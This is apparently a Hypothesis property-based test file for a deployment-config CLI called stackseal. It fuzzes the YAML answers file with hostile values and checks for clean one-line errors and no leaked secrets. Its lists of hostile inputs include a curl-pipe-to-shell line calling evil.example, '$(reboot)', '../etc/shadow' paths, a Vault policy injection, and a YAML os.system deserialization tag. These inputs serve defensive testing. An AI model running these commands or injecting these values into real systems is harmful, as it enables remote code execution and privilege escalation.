"""Property-based: answers files generated from the schema, then mutated, never break stackseal.

Hypothesis starts from valid answers documents (every key of the schema, a few backends) and
mutates 1-3 keys with hostile values: wrong types, unicode and control characters, huge and
deeply nested values, huge numbers, credentials in URLs, '..' paths, shell and HCL
metacharacters; the YAML text itself gets aliases, merge keys, tags and non-scalar keys.

For every example: ``plan_from_dict``/``render_files`` return or raise UsageError, and
``stackseal render`` (in-process, and a few through the real CLI) ends with exit 0 or 2, one
line on error, never a traceback, never a raw control/escape character, and writes nothing on
exit 2. Fixed seed (``derandomize``) and bounded examples: it runs in a few seconds.
"""

from __future__ import annotations

import contextlib
import copy
import io
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wizard.cli import main
from wizard.errors import UsageError
from wizard.plan import default_plan, plan_from_dict, plan_to_dict
from wizard.render import render_files, writer

ROOT = Path(__file__).resolve().parent.parent
SETTINGS = dict(
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def _seed_docs() -> list[dict[str, Any]]:
    base = plan_to_dict(default_plan())
    base["volumes"]["backend"] = "none"
    docs = [base]
    for patch in (
        {"kms": {"backend": "vault", "vault": {"deploy": True}}, "object_store": {"kind": "minio", "sse": "sse-kms"}},
        {"kms": {"backend": "aws"}, "object_store": {"kind": "minio", "sse": "sse-kms"}},
        {"kms": {"backend": "gcp", "gcp": {"project": "my-project"}}},
        {"object_store": {"sse": "sse-c", "endpoint": "https://127.0.0.1:9443"}},
        {"neo4j": {"edition": "enterprise", "accept_license_agreement": True}, "volumes": {"backend": "luks-file"}},
    ):
        doc = copy.deepcopy(base)
        for section, values in patch.items():
            for key, value in values.items():
                if isinstance(value, dict):
                    doc[section][key].update(value)
                else:
                    doc[section][key] = value
        docs.append(doc)
    return docs


SEEDS = _seed_docs()


def _paths(doc: dict, prefix: tuple = ()) -> list[tuple]:
    out = []
    for key, value in doc.items():
        out.append((*prefix, key))
        if isinstance(value, dict):
            out += _paths(value, (*prefix, key))
    return out


KEY_PATHS = sorted(set(_paths(SEEDS[0]) + [("images", "neo4j"), ("images", "evil\x1b")]))

NASTY_TEXT = [
    "",
    "x\n",
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "a\u202eb",
    "../../etc/shadow",
    "/srv/../etc",
    "/",
    "; curl http://evil.example | sh",
    "$(reboot)",
    '" } path "sys/*" { capabilities = ["sudo"] } #',
    "${jndi}",
    "*",
    "sys",
    "bolt://neo4j:Hunter2Secret@127.0.0.1:7687",
    "user:Hunter2Secret@127.0.0.1:9000",
    "http://Hunter2Secret@127.0.0.1",
    "/dev/zero",
    "neo4j:5\nservices: {}",
    "a" * 1025,
    "b" * 300_000,
]


def _nested(depth: int) -> Any:
    value: Any = "leaf"
    for _ in range(depth):
        value = [value]
    return value


VALUES = st.one_of(
    st.sampled_from(NASTY_TEXT),
    st.text(max_size=20),
    st.text(alphabet=st.characters(categories=("Cc", "Cf", "Zl", "Zp", "Co")), max_size=8),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([0, -1, 65536, 2**31, 2**63, 10**20]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.none(),
    st.lists(st.one_of(st.integers(), st.text(max_size=4)), max_size=4),
    st.dictionaries(st.text(max_size=4), st.integers(), max_size=3),
    st.integers(min_value=5, max_value=40).map(_nested),
)


@st.composite
def mutated_docs(draw: st.DrawFn) -> dict[str, Any]:
    doc = copy.deepcopy(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(min_value=0, max_value=3))):  # 0: a valid seed, rendered for real
        path = draw(st.sampled_from(KEY_PATHS))
        node = doc
        for part in path[:-1]:
            if not isinstance(node.get(part), dict):
                node[part] = {}
            node = node[part]
        if draw(st.integers(0, 9)) == 0:
            node.pop(path[-1], None)
        else:
            node[path[-1]] = draw(VALUES)
    return doc


YAML_TWISTS = [
    "",
    "extra: &a [1, 2]\nmore: *a\n",
    "<<: {project: merged}\n",
    "? [a, b]\n: 1\n",
    "!!python/object/apply:os.system ['id']\n",
    "--- \nversion: 1\n",
    "x: !!binary aGVsbG8=\n",
    "\t\n",
    "images: !!set {a, b}\n",
    "neo4j: {http_port: 0x7fffffffffffffffffff}\n",
]


def _run(args: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(args)
    return code, out.getvalue(), err.getvalue()


def _check_message(text: str) -> None:
    assert "\n" not in text and not CONTROL.search(text), repr(text)
    assert len(text) < 600
    assert "Hunter2Secret" not in text


@settings(max_examples=150, **SETTINGS)
@given(doc=mutated_docs())
def test_plan_from_dict_and_render_are_total(doc: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        try:
            plan = plan_from_dict(doc, base_dir=Path(tmp))
            files = render_files(plan, writer.secret_store_for(Path(tmp) / "out"))
        except UsageError as err:
            _check_message(str(err))
            return
        for rendered in files.values():
            if not rendered.secret:
                assert b"\x1b" not in rendered.content and b"Hunter2Secret" not in rendered.content


@settings(max_examples=60, **SETTINGS)
@given(doc=mutated_docs(), twist=st.one_of(st.just(""), st.sampled_from(YAML_TWISTS)), dry_run=st.booleans())
def test_render_ends_0_or_2_with_one_line_and_writes_nothing_on_2(
    doc: dict[str, Any], twist: str, dry_run: bool
) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        answers = Path(tmp) / "stackseal.yaml"
        answers.write_text(twist + yaml.safe_dump(doc, allow_unicode=True, width=80), encoding="utf-8")
        out = Path(tmp) / "out"
        args = ["render", "-c", str(answers), "-o", str(out)] + (["--dry-run"] if dry_run else [])
        code, stdout, stderr = _run(args)
        # 1 only when the plan's KMS cannot wrap the new secrets (render needs it; none runs here)
        assert code in (0, 2) or (code == 1 and ("KMS" in stderr or "Vault" in stderr)), (code, stdout, stderr)
        for text in (stdout, stderr):
            assert "Traceback" not in text and "\x1b" not in text and "Hunter2Secret" not in text
        if code in (1, 2):
            lines = stderr.splitlines()
            assert len(lines) == 1 and lines[0].startswith("stackseal: error: "), stderr
            _check_message(lines[0])
            assert not out.exists()
        elif dry_run:
            assert not out.exists()


@settings(max_examples=4, **SETTINGS)
@given(doc=mutated_docs(), twist=st.sampled_from(YAML_TWISTS))
def test_the_real_cli_agrees(doc: dict[str, Any], twist: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        answers = Path(tmp) / "stackseal.yaml"
        answers.write_text(twist + yaml.safe_dump(doc, allow_unicode=True, width=80), encoding="utf-8")
        out = Path(tmp) / "out"
        result = subprocess.run(
            [sys.executable, "-m", "wizard.cli", "render", "-c", str(answers), "-o", str(out)],
            capture_output=True,
            text=True,
            timeout=120,
            cwd=ROOT,
            env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        )
        kms_refused = result.returncode == 1 and ("KMS" in result.stderr or "Vault" in result.stderr)
        assert result.returncode in (0, 2) or kms_refused, result.stderr
        assert "Traceback" not in result.stderr and "\x1b" not in result.stdout + result.stderr
        if result.returncode in (1, 2):
            assert len(result.stderr.splitlines()) == 1
            assert not out.exists()
